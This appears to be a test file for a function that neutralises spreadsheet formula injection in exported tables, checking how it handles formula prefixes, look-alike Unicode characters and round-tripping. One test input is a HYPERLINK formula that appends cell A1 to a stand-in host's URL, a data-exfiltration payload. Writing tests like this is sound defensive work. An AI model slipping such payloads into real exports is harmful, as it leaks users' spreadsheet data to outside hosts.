import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.exports.tables.handed import original
from tracker.exports.tables.defused import defused

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tword",
    "  =1+1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "\x01=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM",
    "\u22121",
    '=HYPERLINK("http://example.org/?"&A1,"magnesium")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(text):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["magnesium", "B6 = pyridoxine", "5-HTP", "née", "a@b", "", " x"])
def test_other_text_stays_as_it_is(text):
    assert defused(text) == text


@given(st.text() | st.sampled_from([*FORMULAS, "'t", "''"]))
def test_the_original_can_be_read_back(text):
    assert original(defused(text)) == (text or None)


@given(st.text(alphabet="=+-@ \t'a"))
def test_nothing_that_is_written_begins_with_what_begins_a_formula(text):
    assert not defused(text).lstrip().startswith(("=", "+", "-", "@"))
